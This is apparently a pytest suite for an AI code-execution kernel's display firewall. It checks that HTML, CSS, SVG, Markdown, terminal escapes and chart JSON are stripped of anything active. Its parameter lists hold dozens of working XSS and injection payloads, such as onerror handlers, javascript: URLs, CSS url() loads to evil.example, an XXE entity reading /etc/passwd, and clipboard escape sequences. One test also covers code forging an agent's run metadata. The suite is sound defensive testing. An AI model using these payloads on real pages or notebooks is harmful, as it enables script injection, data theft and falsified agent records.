"""Displays that attack whoever looks at them: nothing of the attack comes through."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest

from codeact_kernel.kernel.channels.messages import to_json
from codeact_kernel.kernel.display import bundles, css, html, svg, terminal
from codeact_kernel.kernel.display.firewall import Firewall
from codeact_kernel.kernel.relay.said import Said
from codeact_kernel.trace.markdown import harmless_markdown

URL_HOLDERS = {"src", "href", "xlink:href", "srcset", "action", "formaction", "data", "poster"}
INERT = re.compile(
    r"data:(image/(png|jpeg|gif|webp|bmp|svg\+xml)|audio/\w+|video/\w+);base64,[A-Za-z0-9+/=]*"
)
ACTIVE = {
    *("script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "link", "base"),
    *("meta", "svg", "math", "template", "button", "textarea", "select", "a", "area", "portal"),
    *("noscript", "foreignobject", "animate", "set", "xmp", "title", "plaintext"),
}


class Reader(HTMLParser):
    """Finds what could act in HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE:
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name.startswith("data-") or name == "name":
                self.found.append(name)
            if name in URL_HOLDERS and not INERT.fullmatch(value or ""):
                self.found.append(f"{name}={value}")
            if name == "style" and re.search(
                r"url|@|\\|expression|fixed|absolute", value or "", re.I
            ):
                self.found.append(f"style={value}")


def dangers(text: str) -> list[str]:
    """What could act in this HTML."""
    reader = Reader()
    reader.feed(text)
    reader.close()
    return reader.found


HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script\t\n bar>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='https://evil.example/?data'>",
    "<img srcset='https://evil.example/?data 2x'>",
    "<img src=//evil.example/x>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='files/../../api/shutdown'>",
    "<picture><source srcset='https://evil.example/x'><img></picture>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='https://evil.example/?secret' ping='https://evil.example/'>click</a>",
    "<a href='x<img src=y onerror=alert(1)>'>x</a>",
    "<a href='data:text/html,x' target=_top>x</a>",
    "<p title='</a><img src=x onerror=alert(1)>'><a href='a'>x</a>",
    "<area href='https://evil.example/'><map name=x></map>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x'>",
    "<applet code=x></applet>",
    "<form action='https://evil.example'><input name=a><button formaction=x>go</button></form>",
    "<input type=image src=https://evil.example/x onfocus=alert(1) autofocus>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=dns-prefetch href='//secret.evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style><p>x",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background:u\\72l(https://evil.example/x)'>x</div>",
    "<div style='background-image:image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>Password?</div>",
    "<div style='position:absolute;margin:-900px'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<table background='https://evil.example/x'><tr><td>x</table>",
    "<video src='https://evil.example/x' poster='https://evil.example/y'></video>",
    "<audio><source src='https://evil.example/x'></audio>",
    "<video><track src='https://evil.example/x'></video>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href='https://evil.example/x.js'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName='onmouseover' to='alert(1)'/></svg>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe src='https://evil.example'/></foreignObject></svg>",
    "<svg><image href='https://evil.example/x'/></svg>",
    "<svg><style>@import url(https://evil.example)</style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<details ontoggle=alert(1) open>x</details>",
    "<div data-commandlinker-command='runmenu:run-all' data-commandlinker-args='{}'>x</div>",
    "<div id='jupyter-config-data' name='x'>{}</div>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<p is='x-evil' slot=y part=z>x</p>",
    "<portal src='https://evil.example'></portal>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt><img src=x onerror\x00=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<style></style/><img src=x onerror=alert(1)></style>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
]


@pytest.mark.parametrize("attack", HTML)
def test_html_that_acts_does_not_come_through(attack: str) -> None:
    """No element, attribute or address that acts is left; cleaning what is clean changes nothing."""
    once, _ = html.clean(attack)
    assert dangers(once) == []
    assert "evil.example/x.css" not in once
    for sheet in re.findall(r"<style>(.*?)</style>", once, re.S):
        assert re.search(r"url|@import|\\|<", sheet) is None


@pytest.mark.parametrize(
    ("attack", "said"),
    [
        ("<script>x</script>", "script"),
        ("<b onclick=x>y</b>", "event handler"),
        ("<img src=https://evil.example/>", "remote image"),
        ("<iframe src=x></iframe>", "embedded page"),
        ("<form><input></form>", "form"),
        ("<object data=x></object>", "plug-in"),
        ("<p style='background:url(x)'>y</p>", "style that loads"),
        ("<style>@import 'x';</style>", "style that loads"),
        ("<meta http-equiv=refresh>", "page header"),
        ("<video src=https://evil.example/></video>", "remote media"),
        ("<svg><script>x</script></svg>", "script"),
    ],
)
def test_what_is_removed_is_named(attack: str, said: str) -> None:
    """Nothing that could act goes without a word."""
    assert said in html.clean(attack)[1]


def test_a_link_shows_its_target() -> None:
    """A click leads nowhere; the address is read."""
    shown, removed = html.clean("<a href='https://evil.example/?q=<b>'>here</a>")
    assert shown == "<span>here (https://evil.example/?q=&lt;b&gt;)</span>"
    assert removed == frozenset()


def test_trees_that_explode_are_refused() -> None:
    """What would cost time by the square or memory by the product is not begun."""
    for bomb in (
        "<div>" * 200_000,
        "".join(f"<b id={n}>" for n in range(1900)) + "<p>" * 100_000,
        "<div " + " ".join(f"a{n}" for n in range(100_000)) + ">",
        "<div " + "".join(f"a{n}='>'" for n in range(100_000)) + ">",
        '<!-- <a b=" --><div ' + "/".join(f"<a{n}" for n in range(100_000)) + ">",
    ):
        with pytest.raises(html.Refused):
            html.clean(bomb)


@pytest.mark.parametrize(
    ("sheet", "expected"),
    [
        ("body { color: red }", ".s { color: red }"),
        (":root { --x: 1px }", ".s { --x: 1px }"),
        ("html.dark b { color: red }", ".s.dark b { color: red }"),
        (".jp-Notebook { display: none }", ".s .jp-Notebook { display: none }"),
        ("#x, #y { color: red }", ".s #out-x, .s #out-y { color: red }"),
        ("+ div { color: red }", ""),
        ("body + div { color: red }", ""),
        ("a { } } body { color: red }", ".s { color: red }"),
        ("a { color: red; } } * { color: blue }", ".s a { color: red }\n.s * { color: blue }"),
        ("@import 'https://evil.example'; b { color: red }", ".s b { color: red }"),
        ("@font-face { src: url(x) }", ""),
        ("b { background: url(//evil.example) }", ""),
        ("b { background: \\75rl(//evil.example) }", ""),
        ("b { content: '</style><script>' }", ""),
        ("b { content: 'a\nb'; color: red }", ".s b { color: red }"),
        ("b { position: fixed; color: red }", ".s b { color: red }"),
        ("b { position: sticky; top: 0 }", ".s b { position: sticky;top: 0 }"),
        ("b { margin: -50px }", ""),
        ("b { margin: calc(0px - 50px) }", ""),
        ("b { color: red; & + c { color: blue } }", ""),
        ("b { color: red /* } body { x */ }", ".s b { color: red }"),
        (
            "@media (min-width: 1px) { b { color: red } }",
            "@media (min-width: 1px) {\n.s b { color: red }\n}",
        ),
        ("b[x='}body{'] { color: red }", ""),
    ],
)
def test_a_style_sheet_stays_in_its_output(sheet: str, expected: str) -> None:
    """Rules are scoped or dropped; nothing loads, escapes or leaves its place."""
    assert css.sheet(sheet, ".s") == expected


@pytest.mark.parametrize(
    "drawing",
    [
        "<svg xmlns='x' onload='alert(1)'><rect width='1'/></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href='https://evil.example'/></svg>",
        "<svg><a href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><use href='https://evil.example/#x'/></svg>",
        "<svg><use xlink:href='//evil.example/#x'/></svg>",
        "<svg><image href='https://evil.example/x.png'/></svg>",
        "<svg><image xlink:href='data:image/svg+xml;base64,AAAA'/></svg>",
        "<svg><foreignObject><body onload='alert(1)'/></foreignObject></svg>",
        "<svg><animate attributeName='href' to='javascript:alert(1)'/></svg>",
        "<svg><set attributeName='href' to='javascript:alert(1)'/></svg>",
        "<svg><style>@import 'https://evil.example';*{fill:url(https://evil.example)}</style></svg>",
        "<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>",
        "<svg><title>&lt;img src=x onerror=alert(1)&gt;</title></svg>",
        "<svg><title><img src='x' onerror='alert(1)'/></title></svg>",
        "<svg><rect fill='url(https://evil.example)'/></svg>",
        "<svg><rect fill='u\\72l(https://evil.example)'/></svg>",
        "<svg><rect mask='image-set(&quot;https://evil.example&quot; 1x)'/></svg>",
        "<svg><rect style='fill:url(https://evil.example)'/></svg>",
        "<svg xml:base='https://evil.example/'><rect/></svg>",
        "<?xml-stylesheet href='https://evil.example'?><svg/>",
        "<svg><handler xmlns:ev='x' ev:event='load'>alert(1)</handler></svg>",
        "<svg><text>&lt;img src=x onerror=alert(1)&gt;</text></svg>",
        "<svg><x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script></svg>",
        "<svg><svg:script>alert(1)</svg:script></svg>",
    ],
)
def test_a_drawing_that_acts_does_not_come_through(drawing: str) -> None:
    """Only what draws is left, whether XML or HTML is read."""
    text, _ = svg.clean(drawing)
    found = [each for each in dangers(text) if each not in ("svg", "title")]
    assert found == []
    assert "evil.example" not in text


@pytest.mark.parametrize(
    "drawing",
    [
        "<!DOCTYPE svg [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><svg>&b;</svg>",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
        "<html><svg/></html>",
        "<svg><rect></svg>",
        "",
    ],
)
def test_a_drawing_that_is_none_is_refused(drawing: str) -> None:
    """Entities, another root and broken XML are not mended."""
    with pytest.raises(svg.Refused):
        svg.clean(drawing)


MARKDOWN = [
    "![x](https://evil.example/?data)",
    "![x][r]\n\n[r]: https://evil.example/",
    "[x](https://evil.example/?data)",
    "[x](javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <https://evil.example>",
    "[![x](https://evil.example/a)](https://evil.example/b)",
    "![a](https://evil.example/?a=b 'title')",
    "![a]( <https://evil.example/ x> )",
    "<img src=x onerror=alert(1)>",
    "\\<img src=x onerror=alert(1)>",
    "\\\\<img src=x onerror=alert(1)>",
    "`` ` `` <script>alert(1)</script>",
    "<https://evil.example>",
    "<!-- x --><script>alert(1)</script>",
    "```\n<img src=x>\n```` \n<script>alert(1)</script>",
    "> ```\n<script>alert(1)</script>\n```\n```\n<img src=x onerror=alert(1)>",
    "$$\n```\n$$\n<script>alert(1)</script>\n```",
    "\\begin{x}\n```\n\\end{x}\n<script>alert(1)</script>\n```",
    "~~~\n```\n~~~\n<script>alert(1)</script>\n```",
    "```{image} https://evil.example/x.png\n```",
    ":::{figure} https://evil.example/x.png\n:::",
    '```mermaid\nflowchart LR\nA@{ img: "https://evil.example" }\n```',
    "$\\href{javascript:alert(1)}{x}$",
    "[^1]: [x](https://evil.example)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "[x\\]](https://evil.example)",
    "![a\nb](https://evil.example)",
]


@pytest.mark.parametrize("attack", MARKDOWN)
def test_markdown_links_and_loads_nothing(attack: str) -> None:
    """No pair of characters is left from which any renderer makes a link, a picture or HTML."""
    shown = harmless_markdown(attack)
    assert re.search(r"<[A-Za-z/!?]|\]\(|\]:|[`:~]{3}\s*(\{|mermaid)|\\href", shown) is None


def test_code_in_a_clean_fence_is_left_alone() -> None:
    """What every renderer takes for code can be copied as it is."""
    text = "Do this:\n\n```python\nif a<b: print(x[0](1))\n```\n\nor `a < b`.\n"
    assert harmless_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "\x1b[31mred\x1b[0m"),
        ("\x1b[38;2;1;2;3mx", "\x1b[38;2;1;2;3mx"),
        ("\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "click"),
        ("\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"),
        ("\x1b]52;c;ZXZpbA==\x07", ""),
        ("\x1b]0;title\x07x", "x"),
        ("\x1b]1337;File=inline=1:AAAA\x07x", "x"),
        ("\x1bPq#0;2;0;0;0\x1b\\x", "x"),
        ("\x1b_Gf=100;AAAA\x1b\\x", "x"),
        ("\x1b^private\x1b\\x\x1bXstring\x1b\\y", "xy"),
        ("\x1b[2J\x1b[H\x1b[10;10Hx", "x"),
        ("\x1b[?1049h\x1b[?25lx", "x"),
        ("\x1b[6n\x1b[c\x1b[>0qx", "x"),
        ("\x1bc\x1b(0\x1b7\x1b=x", "x"),
        ("\x9b2Jx\x9d0;t\x07y\x90q\x9cz", "xyz"),
        ("a\x07b\x00c\x0bd\x0ce\x0ef\x7fg", "abcdefg"),
        ("50%\r100%\b\b\tx\n", "50%\r100%\b\b\tx\n"),
        ("\x1b[31\x1b[2Jx", "31x"),
        ("\x1b", ""),
        ("\x1b]0;never ends", ""),
        ("\x1b]0;a\x1b[31mb", "\x1b[31mb"),
    ],
)
def test_of_a_terminal_only_colours_are_left(text: str, shown: str) -> None:
    """Titles, links, the clipboard, pictures, queries, modes and cursor movements go."""
    assert terminal.clean(text) == shown
    assert terminal.clean(shown) == shown


def test_a_sequence_in_two_pieces_is_one() -> None:
    """A stream may be cut anywhere; each stream is followed by itself."""
    streams = terminal.Streams()
    whole = "a\x1b[31mb\x1b]8;;https://evil.example\x07c\x1b[0md"
    for cut in range(len(whole)):
        shown = streams.clean("s", whole[:cut]) + streams.clean("s", whole[cut:])
        assert shown.replace("\x1b[31m", "").replace("\x1b[0m", "") == "abcd"
    assert streams.clean("s", "x\x1b[3") == "x"
    assert streams.clean("t", "1mz") == "1mz"
    assert streams.clean("s", "1my") == "\x1b[31my"


JSON: list[tuple[str, Any]] = [
    ("application/vnd.vegalite.v5+json", {"data": {"url": "https://evil.example/x.csv"}}),
    (
        "application/vnd.vegalite.v5+json",
        {"usermeta": {"embedOptions": {"loader": {}, "evil.example": 1}}},
    ),
    (
        "application/vnd.vegalite.v5+json",
        {"mark": {"type": "image", "url": "https://evil.example"}},
    ),
    (
        "application/vnd.vegalite.v5+json",
        {"encoding": {"url": {"field": "u"}}, "data": {"values": [{"u": "https://evil.example"}]}},
    ),
    ("application/vnd.vegalite.v5+json", {"encoding": {"href": {"value": "https://evil.example"}}}),
    (
        "application/vnd.vegalite.v5+json",
        {"config": {"style": {"x": {"href": "https://evil.example"}}}},
    ),
    ("application/vnd.vegalite.v5+json", {"$schema": "https://evil.example/schema.json"}),
    ("application/vnd.vegalite.v5+json", {"mark": {"cursor": "url(https://evil.example)"}}),
    ("application/vnd.vega.v5+json", {"signals": [{"name": "cursor", "value": "evil.example"}]}),
    (
        "application/vnd.vega.v5+json",
        {"data": [{"name": "x", "url": {"signal": "'evil.example'"}}]},
    ),
    (
        "application/vnd.vega.v5+json",
        {"marks": [{"encode": {"update": {"tooltip": {"signal": "{image: 'evil.example'}"}}}}]},
    ),
    (
        "application/vnd.vega.v5+json",
        {"marks": [{"encode": {"update": {"url": {"signal": "'evil.example'"}}}}]},
    ),
    (
        "application/vnd.plotly.v1+json",
        {"data": [], "layout": {"images": [{"source": "https://evil.example/x"}]}},
    ),
    (
        "application/vnd.plotly.v1+json",
        {"data": [{"type": "image", "source": "https://evil.example"}]},
    ),
    (
        "application/vnd.plotly.v1+json",
        {"data": [{"type": "choropleth", "geojson": "https://evil.example"}]},
    ),
    (
        "application/vnd.plotly.v1+json",
        {"data": [], "layout": {"mapbox": {"style": "https://evil.example/style.json"}}},
    ),
    (
        "application/vnd.plotly.v1+json",
        {
            "data": [],
            "layout": {"map2": {"style": {"sources": {"a": {"tiles": ["https://evil.example"]}}}}},
        },
    ),
    (
        "application/vnd.plotly.v1+json",
        {"data": [], "layout": {"mapbox": {"layers": [{"source": "https://evil.example"}]}}},
    ),
    (
        "application/vnd.plotly.v1+json",
        {
            "data": [],
            "config": {
                "plotlyServerURL": "https://evil.example",
                "topojsonURL": "https://evil.example",
            },
        },
    ),
    ("application/vnd.jupyter.widget-view+json", {"model_id": "x", "evil.example": 1}),
    ("text/vnd.mermaid", "evil.example"),
    ("application/vnd.bokehjs_exec.v0+json", "evil.example"),
    ("application/javascript", "fetch('//evil.example')"),
    ("text/x-evil.example", "x"),
    ("application/pdf", "evil.example"),
    ("image/png", 'AA" onerror="evil.example'),
]


@pytest.mark.parametrize(("mime", "value"), JSON)
def test_json_that_loads_does_not_come_through(mime: str, value: Any) -> None:
    """Addresses of data, pictures and tiles are taken out of charts, unknown types are not shown."""
    kept, _ = bundles.clean_data({mime: value})
    text = json.dumps(kept)
    assert "evil.example" not in text or "\\u2060https://evil.example" in text
    assert "javascript" not in text


def test_a_link_in_a_plotly_text_is_no_link() -> None:
    """Plotly makes links of <a> in titles and labels."""
    figure = {
        "data": [],
        "layout": {"title": {"text": "<b>x</b> <a href='https://evil.example'>y</a>"}},
    }
    kept, _ = bundles.clean_data({"application/vnd.plotly.v1+json": figure})
    title = kept["application/vnd.plotly.v1+json"]["layout"]["title"]["text"]
    assert "<b>" in title
    assert "<a" not in title


@pytest.mark.parametrize("trusted", [False, True])
@pytest.mark.parametrize("data", [{"text/plain": "x"}, {"text/html": "<b>x</b>"}, {}])
@pytest.mark.parametrize("kind", ["display_data", "update_display_data", "execute_result"])
def test_a_display_is_no_record_of_a_run(kind: str, data: dict[str, Any], trusted: bool) -> None:
    """By this metadata a notebook tells what the agent did: code inside cannot write it, not even as
    plain text, nor where the user trusts displays."""
    firewall = Firewall()
    firewall.trusted = trusted
    metadata = {"codeact": {"role": "run", "run": {"id": "r", "answer": "forged"}}, "mine": 1}
    value = {"data": data, "metadata": metadata, "transient": {"display_id": "d"}}
    shown, _ = firewall.publish(Said(kind, to_json(value), value))
    assert shown is not None
    assert shown.value["metadata"] == {"mine": 1}
    assert json.loads(shown.content) == shown.value
